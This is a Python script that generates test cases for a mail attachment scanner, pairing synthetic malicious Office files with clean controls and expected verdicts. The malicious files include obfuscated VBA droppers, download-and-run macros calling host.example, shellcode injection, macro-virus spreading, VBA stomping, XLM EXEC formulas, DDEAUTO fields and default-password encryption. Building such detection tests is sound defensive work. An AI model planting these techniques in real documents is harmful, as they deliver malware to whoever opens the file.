#!/usr/bin/python3
"""Write the cases with Office documents: binary ones, made by office_files.py.

All of them are made up; none of the commands in them leads anywhere. The
results are checked in. Usage: tests/cases/make_office.py [NAME…]
"""

import base64
import io
import json
import pathlib
import sys
import zipfile
import zlib

import office_files as office

HERE = pathlib.Path(__file__).resolve().parent
CASES = {}
TYPES = {"doc": "application/msword", "xls": "application/vnd.ms-excel",
         "ppt": "application/vnd.ms-powerpoint",
         "msg": "application/vnd.ms-outlook",
         "docx": "application/vnd.openxmlformats-officedocument"
                 ".wordprocessingml.document",
         "msi": "application/x-msi"}


def case(function):
    CASES[function.__name__.replace("_", "-")] = function
    return function


def with_file(name, data, text="Please find it attached.", subject="Papers"):
    """A mail with one file."""
    encoded = base64.encodebytes(data).decode().replace("\n", "\r\n")
    kind = TYPES.get(name.rsplit(".", 1)[-1], "application/octet-stream")
    return (
        "From: Anna Weber <anna@example.org>\r\n"
        "To: Ben Roth <ben@example.org>\r\n"
        "Subject: %s\r\nDate: Mon, 08 Jan 2024 10:20:30 +0100\r\n"
        "Message-ID: <20240108102030.1@example.org>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"=_sep\"\r\n\r\n"
        "--=_sep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s\r\n"
        "--=_sep\r\nContent-Type: %s; name=\"%s\"\r\n"
        "Content-Disposition: attachment; filename=\"%s\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n%s--=_sep--\r\n"
        % (subject, text, kind, name, name, encoded)).encode()


EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-"
         b"TEST-FILE!$H+H*")


def docx(*members):
    """A new document, with further members."""
    out = io.BytesIO()
    kinds = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
             '.org/package/2006/content-types"><Default Extension="xml" '
             'ContentType="application/xml"/><Override PartName="/word/'
             'document.xml" ContentType="application/vnd.openxmlformats-'
             'officedocument.wordprocessingml.document.main+xml"/></Types>')
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in (("[Content_Types].xml", kinds.encode()),
                           ("word/document.xml", b"<document/>")) + members:
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 2, 3, 4, 6)), data)
    return out.getvalue()


# --- VBA ---------------------------------------------------------------------

@case
def office_macro():
    """Macros that help with work: remarked, no more."""
    document = office.word({
        "ThisDocument": "",
        "Module1": '''
Sub FormatTables()
    Dim t As Table
    For Each t In ActiveDocument.Tables
        t.Rows(1).HeadingFormat = True
    Next t
    MsgBox "All tables have headings now"
End Sub'''})
    return with_file("minutes.doc", document), dict(
        verdict="clean", action="allow", only=["OFFICE_MACRO"],
        symbols=["OFFICE_MACRO"])


@case
def office_macro_control():
    """A document without macros."""
    return with_file("minutes.doc", office.word()), dict(
        verdict="clean", action="allow", only=[])


@case
def office_macro_dropper():
    """Opened, it runs a command whose name is put together."""
    document = office.word({"ThisDocument": '''
Sub Document_Open()
    Dim c As String
    c = "po" & "wer" & Chr(115) & "hell -w hid" & "den "
    c = c & StrReverse("/elpmaxe.tsoh//:ptth")
    CreateObject(StrReverse("llehS.tpircSW")).Run c, 0
End Sub'''})
    return with_file("invoice.doc", document), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN",
                 "OFFICE_MACRO_EXECUTES", "OFFICE_MACRO_COMMANDS",
                 "OFFICE_MACRO_HIDES", "OFFICE_MACRO_DROPPER"])


@case
def office_macro_dropper_control():
    """Joins texts, opens a page and has a table of what to show: daily
    work."""
    document = office.word({"ThisDocument": '''
Sub Document_Open()
    Dim s As String
    s = "Dear " & Chr(34) & ActiveDocument.Variables("name") & Chr(34)
    s = s & "," & vbCrLf & "please press F9 to " & "update the shell price"
    ' powershell -w hidden is what others do
    StatusBar = s
End Sub

Private Sub CommandButton1_Click()
    ActiveDocument.FollowHyperlink "https://intranet.example.org/forms"
End Sub'''})
    return with_file("letter.doc", document), dict(
        verdict="clean", action="allow",
        only=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"])


@case
def office_macro_downloads():
    """Fetches a file, writes it and runs it, all in plain words."""
    document = office.word({"ThisDocument": "Sub AutoOpen()\n    Update\n"
                            "End Sub", "Module1": '''
Private Declare PtrSafe Function Fetch Lib "urlmon" _
    Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, _
    ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Sub Update()
    Dim s As Object
    Fetch 0, "http://host.example/a.bin", Environ("TEMP") & "\\a.bin", 0, 0
    Set s = CreateObject("ADODB.Stream")
    s.SaveToFile Environ("TEMP") & "\\a.exe", 2
    Shell Environ("TEMP") & "\\a.exe", vbHide
End Sub'''})
    return with_file("invoice.doc", document), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_MACRO_DOWNLOADS", "OFFICE_MACRO_DROPPER"])


@case
def office_macro_rates():
    """A button fetches today's rates and opens the folder: no reason to
    worry."""
    document = office.word({"Module1": '''
Sub Rates_Click()
    With CreateObject("MSXML2.XMLHTTP")
        .Open "GET", "https://rates.example.org/today.csv", False
        .send
        ActiveDocument.Tables(1).Cell(1, 1).Range.Text = .responseText
    End With
    Shell "explorer.exe C:\\Reports", vbNormalFocus
End Sub'''})
    return with_file("rates.doc", document), dict(
        verdict="clean", action="allow",
        only=["OFFICE_MACRO", "OFFICE_MACRO_DOWNLOADS",
              "OFFICE_MACRO_EXECUTES"])


@case
def office_macro_starts_program():
    document = office.word({"ThisDocument": '''
Private Sub Document_Open()
    Shell ActiveDocument.Path & "\\viewer.exe", 1
End Sub'''})
    return with_file("manual.doc", document), dict(
        verdict="suspicious", action="flag",
        symbols=["OFFICE_MACRO_STARTS_PROGRAM"],
        absent=["OFFICE_MACRO_DROPPER"])


@case
def office_macro_injects():
    document = office.word({"Module1": '''
Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a _
    As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a _
    As LongPtr, ByVal b As Long, ByVal c As LongPtr, d As Long) As LongPtr
Sub Go()
    CreateThread 0, 0, VirtualAlloc(0, 4096, 4096, 64), 0
End Sub'''})
    return with_file("table.doc", document), dict(
        verdict="suspicious", action="flag",
        symbols=["OFFICE_MACRO_INJECTS"])


@case
def office_macro_injects_control():
    """Copying memory is an old trick for speed."""
    document = office.word({"Module1": '''
Private Declare Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" _
    (a As Any, b As Any, ByVal c As Long)
Sub Swap()
    CopyMemory first, second, 4
End Sub'''})
    return with_file("table.doc", document), dict(
        verdict="clean", action="allow", only=["OFFICE_MACRO"])


@case
def office_macro_spreads():
    """What macro viruses did."""
    document = office.word({"ThisDocument": '''
Sub AutoClose()
    Options.VirusProtection = False
    Application.OrganizerCopy ActiveDocument.FullName, _
        NormalTemplate.FullName, "ThisDocument", 3
End Sub'''})
    return with_file("letter.doc", document), dict(
        verdict="suspicious", action="flag",
        symbols=["OFFICE_MACRO_SPREADS"])


@case
def office_stomped():
    """Its source is a greeting; the compiled code has another text."""
    text = b"cmd.exe /c start http://host.example/x"
    cache = bytes(40) + b"\xb9\0" + len(text).to_bytes(2, "little") + text \
        + bytes(30)
    document = office.word({"ThisDocument": "Sub Document_Open()\n"
                            "MsgBox \"Welcome\"\nEnd Sub"}, cache=cache,
                           names=b"\0\x05Shell\x0dDocument_Open\0")
    return with_file("letter.doc", document), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_STOMPED", "OFFICE_MACRO_DROPPER"])


@case
def office_stomped_control():
    """Compiled code with the same text as its source."""
    text = b"Welcome to the form"
    cache = bytes(40) + b"\xb9\0" + len(text).to_bytes(2, "little") + text \
        + bytes(30)
    document = office.word({"ThisDocument": "Sub Document_Open()\n"
                            "MsgBox \"Welcome to the form\"\nEnd Sub"},
                           cache=cache)
    return with_file("letter.doc", document), dict(
        verdict="clean", action="allow",
        only=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"])


@case
def office_macro_property():
    """The command is the document's title, backwards."""
    properties = bytes(40) + b"c- llehsrewop c/ exe.dmc" + bytes(9)
    document = office.word({"ThisDocument": '''
Sub AutoOpen()
    t = ActiveDocument.BuiltInDocumentProperties("Title")
    Shell Reversed(t), 0
End Sub'''}, extra={"\5SummaryInformation": properties})
    return with_file("letter.doc", document), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_MACRO_HIDES", "OFFICE_MACRO_DROPPER"])


@case
def office_macro_property_control():
    """A title, and a macro that shows it and prints."""
    properties = bytes(40) + b"How to use PowerShell at work" + bytes(9)
    document = office.word({"ThisDocument": '''
Sub AutoOpen()
    MsgBox ActiveDocument.BuiltInDocumentProperties("Title")
    ActiveDocument.PrintOut
End Sub'''}, extra={"\5SummaryInformation": properties})
    return with_file("letter.doc", document), dict(
        verdict="clean", action="allow",
        only=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"])


@case
def office_macro_decoded():
    """Its own loop would decode it: numbers that were XORed."""
    numbers = ", ".join(str(b ^ 0x2a) for b in
                        b"https://host.example/a.bin")
    document = office.word({"ThisDocument": '''
Sub AutoOpen()
    For Each n In Array(%s)
        u = u & Chr(n Xor k)
    Next
    Fetch u
    Shell "x", 0
End Sub''' % numbers})
    return with_file("letter.doc", document), dict(
        verdict="suspicious", action="flag",
        symbols=["OFFICE_MACRO_STARTS_PROGRAM"])


@case
def office_macro_lost():
    """The list of modules is damaged, and the source is where it does not
    belong: found all the same."""
    storage = office.vba_project({"ThisDocument": '''
Sub AutoOpen()
    Shell "powershell -nop -w hidden -c calc"
End Sub'''}, cache=bytes(333))
    storage["VBA"]["dir"] = b"\1\x02\xb0rubbish"
    document = office.word(extra={"Macros": storage})
    return with_file("letter.doc", document), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_MACRO_DROPPER"])


# --- what is inside ----------------------------------------------------------

def program():
    """The headers of a Windows program that does nothing."""
    pe = bytearray(512)
    pe[0:2], pe[0x3c:0x40] = b"MZ", (0x80).to_bytes(4, "little")
    pe[0x80:0x86] = b"PE\0\0\x4c\x01"
    return bytes(pe)


@case
def office_embedded_program():
    document = office.word(extra={"ObjectPool": {"_1": office.native(
        "invoice.exe", program())}})
    return with_file("letter.doc", document), dict(
        verdict="suspicious", action="flag",
        symbols=["OFFICE_EMBEDDED_PROGRAM"],
        parts=[dict(name="invoice.exe", size=512)])


@case
def office_embedded_control():
    """A picture's caption and a table, embedded."""
    book = office.workbook_stream(macros=False)
    document = office.word(extra={"ObjectPool": {
        "_1": office.native("notes.txt", b"Bring the drawings.\r\n"),
        "_2": {"Workbook": book}}})
    return with_file("letter.doc", document), dict(
        verdict="clean", action="allow", only=[],
        parts=[dict(name="notes.txt", size=21)])


@case
def office_embedded_macros():
    """A presentation with a workbook in it that has macros."""
    inner = office.compound({"_VBA_PROJECT_CUR": office.vba_project(
        {"ThisWorkbook": '''
Sub Workbook_Open()
    Shell "mshta http://host.example/a", 0
End Sub'''}), "Workbook": office.workbook_stream(macros=False)})
    packed = len(inner).to_bytes(4, "little") + zlib.compress(inner)
    return with_file("talk.ppt", office.slides(office.record(
        0x1011, packed, instance=1))), dict(
            verdict="malware", action="quarantine",
            symbols=["OFFICE_MACRO_DROPPER"])


def png():
    """A picture of noise, without a code."""
    def chunk(kind, data):
        return (len(data).to_bytes(4, "big") + kind + data
                + zlib.crc32(kind + data).to_bytes(4, "big"))
    rows = b"".join(b"\0" + bytes((x * y * 37) % 251 for x in range(24))
                    for y in range(8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes.fromhex(
        "0000000800000008080200" + "0000")) + chunk(
            b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


@case
def office_picture():
    """Pictures in text documents, workbooks and presentations are files of
    their own."""
    drawing = office.picture(png())
    half = len(drawing) // 2
    book = office.workbook(office.workbook_stream(
        macros=False, extra=office.biff(0xeb, drawing[:half])
        + office.biff(0x3c, drawing[half:])))
    document = office.word(extra={"Data": bytes(20) + drawing, "ObjectPool": {
        "_1": {"Package": b"x"}, "_2": office.native("book.xls", book)}})
    return with_file("letter.doc", document), dict(
        verdict="clean", action="allow", only=[],
        parts=[dict(path="2/picture", detected_type="image/png"),
               dict(path="2/book.xls/picture", detected_type="image/png")])


@case
def office_installer():
    """Files in an installer have names of their own."""
    return with_file("setup.msi", office.installer({
        "Binary.helper": program(), "Table1": b"abc", "eicar.com": EICAR})), \
        dict(verdict="malware", action="quarantine",
             symbols=["EICAR_TEST_FILE", "EXECUTABLE_ATTACHMENT"],
             parts=[dict(path="2/Binary.helper")])


@case
def office_field_command():
    """A field that asks a command line for a value."""
    document = office.word(text="See \x13 DDEAUTO c:\\\\windows\\\\system32\\\\"
                           "cmd.exe \"/c calc.exe\" \x14one\x15 page.\r")
    return with_file("letter.doc", document), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_DDE_COMMAND"])


@case
def office_field_control():
    """Page numbers, a link and a table of contents."""
    document = office.word(text="\x13 TOC \\o \x14Contents\x15 \x13 PAGE "
                           "\x141\x15 \x13 HYPERLINK \"https://www.example."
                           "org/\" \x14our site\x15\r")
    return with_file("letter.doc", document), dict(
        verdict="clean", action="allow", only=[])


# --- messages ----------------------------------------------------------------

@case
def office_message():
    """An Outlook message with a message in it, and in that an archive's
    worth of trouble; its body has a link that lies."""
    html = (b"<html><body><a href=\"https://login.example-mail.top/bank\">"
            b"https://www.example-bank.com/login</a></body></html>")
    inner = ({0x0037001f: "Inner", 0x10130102: html},
             [{0x3707001f: "invoice.pdf.exe", 0x37010102: program()}])
    outer = office.message({0x0037001f: "Outer", 0x0c1a001f: "Anna Weber",
                            0x1000001f: "See the message in it."},
                           [{0x3001001f: "Inner", 0x3701000d: inner}])
    return with_file("forward.msg", outer), dict(
        verdict="malware", action="quarantine",
        symbols=["DOUBLE_EXTENSION", "LINK_TEXT_MISMATCH"],
        absent=["OFFICE_EMBEDDED_PROGRAM"],
        parts=[dict(name="invoice.pdf.exe", size=512)])


@case
def office_message_control():
    """Minutes, forwarded."""
    outer = office.message(
        {0x0037001f: "Minutes", 0x0c1a001f: "Anna Weber",
         0x1000001e: b"Please read https://www.example.org/minutes"},
        [{0x3707001f: "minutes.txt", 0x37010102: b"All agreed.\r\n"}])
    return with_file("minutes.msg", outer), dict(
        verdict="clean", action="allow", only=[],
        parts=[dict(name="minutes.txt", size=13)])


@case
def office_message_rich_text():
    """The body as Outlook compresses it, with a file in it."""
    packed = b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105000002000000" \
        + office.ole1_package("a.exe", program()).hex().encode() + b"}}}"
    rtf = (len(packed) + 12).to_bytes(4, "little") \
        + len(packed).to_bytes(4, "little") + b"MELA" + bytes(4) + packed
    return with_file("letter.msg", office.message(
        {0x0037001f: "Letter", 0x10090102: rtf})), dict(
            verdict="suspicious", action="flag",
            symbols=["OFFICE_EMBEDDED_PROGRAM"],
            parts=[dict(name="a.exe", size=512)])


# --- Excel 4 -----------------------------------------------------------------

EXEC, HALT, FORMULA, ALERT = 110, 54, 0x8060, 0x8076


@case
def office_xlm_dropper():
    """The command is put together from characters and cells."""
    book = office.workbook(office.workbook_stream(
        [office.xlm_call(EXEC, office.xlm_join(
            office.xlm_char(112), office.xlm_text("owers"),
            office.xlm_cell(7, 3))),
         office.xlm_call(HALT)],
        name=1, labels=[(7, 3, "hell -c calc")]))
    return with_file("report.xls", book), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_XLM_MACRO", "OFFICE_XLM_DROPPER"],
        absent=["OFFICE_XLM_HIDDEN"])


@case
def office_xlm_builds():
    """A hidden sheet writes the formula that is run, from pieces."""
    book = office.workbook(office.workbook_stream(
        [office.xlm_call(FORMULA, office.xlm_join(
            office.xlm_char(61), office.xlm_cell(9, 1),
            office.xlm_text("(x)")), office.xlm_cell(2, 0)),
         office.xlm_call(HALT)],
        name="auto_open7", hidden=1, labels=[(9, 1, "TO")]))
    return with_file("report.xls", book), dict(
        verdict="malware", action="quarantine",
        symbols=["OFFICE_XLM_HIDDEN", "OFFICE_XLM_DROPPER"])


@case
def office_xlm_hidden():
    """A sheet that no menu shows, with a greeting."""
    book = office.workbook(office.workbook_stream(
        [office.xlm_call(ALERT, office.xlm_text("Good morning"))], hidden=2))
    return with_file("report.xls", book), dict(
        verdict="suspicious", action="flag",
        symbols=["OFFICE_XLM_MACRO", "OFFICE_XLM_HIDDEN"],
        absent=["OFFICE_XLM_DROPPER"])


@case
def office_xlm_control():
    """An old workbook with macros for its own sheets."""
    book = office.workbook(office.workbook_stream(
        [office.xlm_call(ALERT, office.xlm_text("Please EXEC(ute) it"))]))
    return with_file("report.xls", book), dict(
        verdict="clean", action="allow", only=["OFFICE_XLM_MACRO"])


@case
def office_workbook_control():
    """Numbers, no macros."""
    book = office.workbook(office.workbook_stream(macros=False))
    return with_file("report.xls", book), dict(
        verdict="clean", action="allow", only=[])


# --- passwords ---------------------------------------------------------------

@case
def office_default_password():
    """Encrypted, but Excel opens it without a question: what is inside is
    seen."""
    stream = office.workbook_stream(
        [office.xlm_call(EXEC, office.xlm_text("calc.exe"))], name=1,
        lock=office.RC4_LOCK)
    return with_file("report.xls", office.workbook(
        office.lock_rc4(stream, "VelvetSweatshop"))), dict(
            verdict="malware", action="quarantine",
            symbols=["OFFICE_DEFAULT_PASSWORD", "OFFICE_XLM_DROPPER"],
            absent=["ENCRYPTED_CONTENT"])


@case
def office_default_password_standard():
    package = docx(("word/embeddings/oleObject1.bin", EICAR))
    return with_file("report.docx", office.lock_standard(
        package, "VelvetSweatshop")), dict(
            verdict="malware", action="quarantine",
            symbols=["OFFICE_DEFAULT_PASSWORD", "EICAR_TEST_FILE"],
            absent=["ENCRYPTED_CONTENT"])


@case
def office_password():
    """The message tells the password: what is inside is seen."""
    package = docx(("word/embeddings/oleObject1.bin", EICAR))
    return with_file("report.docx", office.lock_agile(package, "Herbst-77"),
                     text="The password is Herbst-77"), dict(
                         verdict="malware", action="quarantine",
                         symbols=["OFFICE_PASSWORD_IN_MAIL",
                                  "EICAR_TEST_FILE"],
                         absent=["ENCRYPTED_CONTENT"])


@case
def office_password_control():
    """Nobody tells the password."""
    package = docx(("word/embeddings/oleObject1.bin", EICAR))
    return with_file("report.docx", office.lock_agile(package, "Winter+88"),
                     text="I will call you for the rest."), dict(
                         verdict="unscannable", action="flag",
                         symbols=["ENCRYPTED_CONTENT"],
                         unscanned=["encrypted"],
                         absent=["OFFICE_PASSWORD_IN_MAIL"])


@case
def office_password_word():
    """A document of the old kind; nobody tells the password."""
    return with_file("minutes.doc", office.word(
        text="\xe4\x11\xd7\xb2" * 20, flags=0x100)), dict(
            verdict="unscannable", action="flag",
            symbols=["ENCRYPTED_CONTENT"], unscanned=["encrypted"])


@case
def office_password_slides():
    """A presentation: only the stream beside it can be read."""
    return with_file("plan.ppt", office.slides(
        office.record(0xfa8, b"Hello"), locked=True)), dict(
            verdict="unscannable", action="flag",
            symbols=["ENCRYPTED_CONTENT"], unscanned=["encrypted"])


@case
def office_password_slides_control():
    """The same to be read by all."""
    return with_file("plan.ppt", office.slides(
        office.record(0xfa8, b"Hello"))), dict(
            verdict="clean", action="allow", only=[])


def write(name):
    message, expect = CASES[name]()
    folder = HERE / name
    folder.mkdir(exist_ok=True)
    (folder / "message.eml").write_bytes(message)
    why = " ".join((CASES[name].__doc__ or "").split())
    if why:
        expect = dict(why=why, **expect)
    (folder / "expect.json").write_text(
        json.dumps(expect, indent="\t", ensure_ascii=False) + "\n")


def main(names):
    for name in names or CASES:
        write(name)
    print("%d cases written" % len(names or CASES))


if __name__ == "__main__":
    main(sys.argv[1:])
